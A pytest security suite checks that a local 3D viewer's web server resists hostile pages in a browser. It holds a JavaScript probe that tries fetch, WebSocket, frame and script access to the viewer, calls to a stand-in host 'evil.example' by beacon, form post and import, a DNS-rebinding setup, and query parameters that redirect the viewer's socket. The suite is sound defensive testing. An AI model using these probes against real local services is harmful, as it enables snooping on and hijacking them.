"""The viewer's page, and pages of others, in a real browser: theirs see nothing and move nothing.

A page of the other's server on another port, under another host's name, and under a name that was
made to resolve to this machine (DNS rebinding) tries all that a page can.
"""

import json
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from actuated_characters.viewer.web.request_check import RequestCheck
from actuated_characters.viewer.web.server import (
    ViewerServer,
    open_socket,
    start_server,
    stop_server,
)
from tests.support.browser import Browser, needs_chromium, one_browser
from tests.support.ros import wait_until

pytestmark = [pytest.mark.slow, needs_chromium]

SOON = 60.0  # s: WebGL by a processor that does other things as well
HOST = "evil.example"

ATTEMPTS = """(async viewer => {
    const address = `http://${viewer}/`, attempts = {};
    const soon = promise => Promise.race([promise, new Promise(
        (_, reject) => setTimeout(() => reject(new Error("nothing")), 3000))]);
    const attempt = async (name, act) => {
        try { attempts[name] = await soon(act()); } catch (error) { attempts[name] = ""; }
    };
    await attempt("fetch", async () => (await fetch(address)).text());
    await attempt("fetch without cors",
        async () => (await fetch(address, {mode: "no-cors"})).text());
    await attempt("post", async () => (await fetch(
        address, {method: "POST", mode: "no-cors", body: "x"})).text());
    for (const protocols of [[], ["viser-v1.1.1"]])
        await attempt(`websocket ${protocols}`, () => new Promise((done, failed) => {
            const opened = new WebSocket(`ws://${viewer}/`, protocols);
            opened.binaryType = "arraybuffer";
            opened.onmessage = event => done(`message of ${event.data.byteLength}`);
            opened.onerror = failed;
        }));
    for (const kind of ["iframe", "embed", "object"])
        await attempt(kind, () => new Promise((done, failed) => {
            const frame = document.createElement(kind);
            frame.onload = () => setTimeout(() => {
                try { done(frame.contentDocument.body.innerText); } catch (error) { failed(error); }
            }, 1000);
            frame.onerror = failed;
            frame.src = frame.data = address;
            document.body.append(frame);
        }));
    await attempt("script", () => new Promise((done, failed) => {
        const script = document.createElement("script");
        script.onload = () => done("loaded");
        script.onerror = failed;
        script.src = address;
        document.body.append(script);
    }));
    return attempts;
})"""


@dataclass
class Viewer:
    """A viewer's server with a button, and what was done to it."""

    server: ViewerServer
    port: int
    pressed: list[str] = field(default_factory=list)
    rejected: list[str] = field(default_factory=list)

    @property
    def place(self) -> str:
        return f"127.0.0.1:{self.port}"


@pytest.fixture
def viewer() -> Iterator[Viewer]:
    listening, rejected = open_socket("127.0.0.1", 0), list[str]()
    server = start_server(listening, RequestCheck("127.0.0.1"), rejected.append)
    viewer = Viewer(server, listening.getsockname()[1], rejected=rejected)
    server.scene.add_icosphere("/ball", 0.5)
    server.gui.add_markdown("**secret** state")

    async def press(event: object) -> None:
        del event
        viewer.pressed.append("Reset")

    server.gui.add_button("Reset").on_click(press)
    yield viewer
    stop_server(server)


class Hostile(BaseHTTPRequestHandler):
    """An empty page; every request is remembered."""

    seen: list[str]

    def do_GET(self) -> None:
        self.seen.append(f"{self.path} {self.headers.get('Upgrade', '')}".strip())
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(b"<!doctype html><title>hostile</title><body>hostile</body>")

    def log_message(self, format: str, *arguments: object) -> None:
        """Say nothing."""


@pytest.fixture
def hostile() -> Iterator[ThreadingHTTPServer]:
    Hostile.seen = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), Hostile)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def shared_browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    rules = f"--host-resolver-rules=MAP {HOST} 127.0.0.1"
    with one_browser(tmp_path_factory.mktemp("browser"), rules) as browser:
        yield browser


@pytest.fixture
def browser(shared_browser: Browser) -> Browser:
    """A browser that shows nothing."""
    shared_browser.open("about:blank")
    shared_browser.console.clear()
    return shared_browser


def text_of(browser: Browser) -> str:
    return str(browser.evaluate("document.body ? document.body.innerText : ''"))


def load(browser: Browser, viewer: Viewer) -> None:
    browser.call(
        "Page.addScriptToEvaluateOnNewDocument",
        source="""window.blocked = [];
            document.addEventListener("securitypolicyviolation",
                event => window.blocked.push(`${event.violatedDirective} ${event.blockedURI}`));""",
    )
    browser.open(f"http://{viewer.place}")
    wait_until(lambda: "secret state" in text_of(browser), "the viewer's page", SOON)
    wait_until(viewer.server.get_clients, "its connection", SOON)


def test_its_own_page_works_and_needs_nothing_that_its_policy_forbids(
    viewer: Viewer, browser: Browser
) -> None:
    load(browser, viewer)
    wait_until(lambda: browser.click("Reset") and viewer.pressed, "the press", SOON)

    assert browser.evaluate("window.blocked") == []
    assert browser.console == []
    assert viewer.rejected == []


def test_its_own_page_can_speak_with_no_other_server(
    viewer: Viewer, hostile: ThreadingHTTPServer, browser: Browser
) -> None:
    load(browser, viewer)
    other = f"{HOST}:{hostile.server_port}"

    for expression in (
        f"fetch('http://{other}/fetch').then(() => 'sent', () => 'blocked')",
        f"(() => {{ try {{ new WebSocket('ws://{other}/'); }} catch (error) {{}} }})()",
        f"navigator.sendBeacon('http://{other}/beacon', 'x')",
        f"(() => {{ new Image().src = 'http://{other}/image'; }})()",
        f"(() => {{ const each = document.createElement('script'); "
        f"each.src = 'http://{other}/script'; document.head.append(each); }})()",
        f"(() => {{ const each = document.createElement('iframe'); "
        f"each.src = 'http://{other}/frame'; document.body.append(each); }})()",
        f"(() => {{ const each = document.createElement('form'); each.method = 'post'; "
        f"each.action = 'http://{other}/form'; document.body.append(each); each.submit(); }})()",
        f"import('http://{other}/module').then(() => 'sent', () => 'blocked')",
    ):
        browser.evaluate(expression)

    wait_until(lambda: len(browser.evaluate("window.blocked")) >= 7, "the refusals")
    assert Hostile.seen == []


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", HOST])
def test_a_page_of_another_server_sees_nothing_and_moves_nothing(
    viewer: Viewer, hostile: ThreadingHTTPServer, browser: Browser, host: str
) -> None:
    browser.open(f"http://{host}:{hostile.server_port}/")

    attempts = browser.evaluate(f"{ATTEMPTS}({json.dumps(viewer.place)})")

    assert set(attempts.values()) == {""}, attempts
    assert len(attempts) == 9
    assert not viewer.server.get_clients()
    assert not viewer.pressed


def test_a_page_whose_name_was_made_to_resolve_to_this_machine_gets_nothing(
    viewer: Viewer, browser: Browser
) -> None:
    browser.open(f"http://{HOST}:{viewer.port}/")

    assert "rejected" in text_of(browser)
    attempts = browser.evaluate(f"{ATTEMPTS}(location.host)")
    assert all("secret" not in text for text in attempts.values()), attempts
    assert all("message" not in text for text in attempts.values()), attempts
    assert not viewer.server.get_clients()
    assert not viewer.pressed
    assert HOST in viewer.rejected[0]


@pytest.mark.parametrize("name", ["websocket", "web%73ocket", "playbackPath"])
def test_a_page_that_leads_to_the_viewer_by_way_of_its_own_server_gets_nothing(
    viewer: Viewer, hostile: ThreadingHTTPServer, browser: Browser, name: str
) -> None:
    other = f"{HOST}:{hostile.server_port}"
    browser.open(f"http://{other}/")
    scheme = "http" if name == "playbackPath" else "ws"

    browser.evaluate(f"location.href = 'http://{viewer.place}/?{name}={scheme}://{other}/taken'")
    wait_until(lambda: "rejected" in text_of(browser), "the refusal", SOON)

    assert "/taken" not in "".join(Hostile.seen)
    assert not any("websocket" in request for request in Hostile.seen)
    assert not viewer.server.get_clients()
    assert other in viewer.rejected[0]
